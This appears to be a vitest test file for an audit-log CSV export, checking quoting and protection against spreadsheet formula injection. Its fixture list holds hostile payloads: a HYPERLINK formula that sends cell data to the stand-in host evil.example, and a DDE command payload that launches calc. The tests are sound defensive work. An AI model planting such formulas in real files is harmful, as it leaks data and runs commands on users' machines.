import { describe, expect, it } from 'vitest';
import { memoryCloud } from '../../../test/support/test-cloud';
import { AUDIT_CSV_COLUMNS, csvCell } from './audit-csv';

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

describe('the audit CSV export (formula injection, OWASP "CSV Injection")', () => {
  it('neutralises every cell a spreadsheet would run as a formula, keeping its text after the quote mark', () => {
    for (const value of FORMULAS) {
      const cell = csvCell(value);
      expect(cell.startsWith(`"'`)).toBe(true);
      expect(parseCsv(cell)).toEqual([[`'${value}`]]);
    }
  });

  it('quotes commas, quotes and line breaks so the row keeps its columns, and leaves plain cells alone', () => {
    const value = 'say "hi", then\nleave\r\nnow';
    expect(csvCell(value)).toBe('"say ""hi"", then\nleave\r\nnow"');
    expect(parseCsv(`${csvCell(value)},next`)).toEqual([[value, 'next']]);
    expect(csvCell('a\rb')).toBe('"a\rb"');
    expect(csvCell('job.create')).toBe('job.create');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell({ reason: '=1+1' })).toBe('"{""reason"":""=1+1""}"');
  });

  it('exports entries whose text starts a formula without any cell that starts one', async () => {
    const { call, tokens, cloud } = await memoryCloud();
    for (const [n, text] of FORMULAS.entries())
      await cloud.audit.append({
        at: '2026-12-06T03:00:00.000Z',
        actor: text,
        action: 'test.note',
        office: text,
        details: { n },
      });
    await cloud.audit.append({
      at: '2026-12-06T03:00:00.000Z',
      actor: 'comma, "quote"\nnewline',
      action: 'test.note',
      office: '*',
    });
    const response = await call('GET', '/v1/audit/export?format=csv', { token: tokens.auditor });
    expect(response.headers.get('content-type')).toContain('text/csv');
    const rows = parseCsv(await response.text()).filter((r) => r.length > 1);
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    const notes = rows.slice(1).filter((r) => r[3] === 'test.note');
    expect(notes).toHaveLength(FORMULAS.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(AUDIT_CSV_COLUMNS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(notes.map((r) => r[2])).toEqual(
      expect.arrayContaining([...FORMULAS.map((f) => `'${f}`), 'comma, "quote"\nnewline']),
    );
  });
});
